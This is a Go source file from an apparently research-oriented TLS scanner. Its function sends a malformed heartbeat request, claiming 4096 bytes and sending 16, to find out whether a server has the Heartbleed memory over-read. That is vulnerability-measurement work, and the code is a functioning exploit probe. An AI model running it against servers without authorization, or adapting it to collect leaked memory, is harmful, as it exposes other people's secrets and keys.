package scanner

import (
	"net"
	"time"

	"tlsage/internal/registry"
	"tlsage/internal/wire"
)

// hbClaim and hbSent parameterize the Heartbleed check: claim hbClaim
// bytes, send hbSent. A compliant server discards the request; a
// vulnerable one answers with hbClaim bytes.
const (
	hbClaim = 4096
	hbSent  = 16
)

// overRead runs the exploit check the paper's scan data relied on (§5.4)
// on a connection whose server has just acked heartbeat: send a request
// whose claimed payload length exceeds its real payload and return how many
// bytes beyond the sent payload come back. Patched servers discard the
// request silently, so a read that fails within wait means 0.
func overRead(conn net.Conn, wait time.Duration) int {
	req := wire.HeartbeatMessage{Type: wire.HeartbeatRequest, PayloadLength: hbClaim, Payload: make([]byte, hbSent)}
	out := wire.AppendRecord(nil, wire.ContentHeartbeat, registry.VersionTLS12, req.Append(nil))
	if _, err := conn.Write(out); err != nil {
		return 0
	}
	_ = conn.SetReadDeadline(time.Now().Add(wait))
	resp, err := wire.ReadRecord(conn)
	if err != nil || resp.Type != wire.ContentHeartbeat {
		return 0
	}
	var hb wire.HeartbeatMessage
	if err := hb.BuggyDecode(resp.Payload); err != nil || hb.Type != wire.HeartbeatResponse {
		return 0
	}
	return max(0, min(int(hb.PayloadLength), len(hb.Payload))-hbSent)
}
